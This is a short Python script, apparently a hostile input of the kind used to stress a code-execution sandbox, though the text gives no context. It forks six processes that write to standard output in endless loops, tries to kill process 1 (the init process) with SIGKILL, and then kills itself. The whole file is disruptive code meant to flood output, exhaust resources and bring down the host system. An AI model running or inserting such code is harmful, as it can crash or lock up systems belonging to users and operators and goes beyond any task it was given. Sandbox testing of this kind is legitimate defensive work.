import os, signal
for _ in range(6):
    if os.fork() == 0:
        while True:
            os.write(1, b"o" * 4096)
try:
    os.kill(1, signal.SIGKILL)
except OSError:
    pass
os.kill(os.getpid(), signal.SIGKILL)
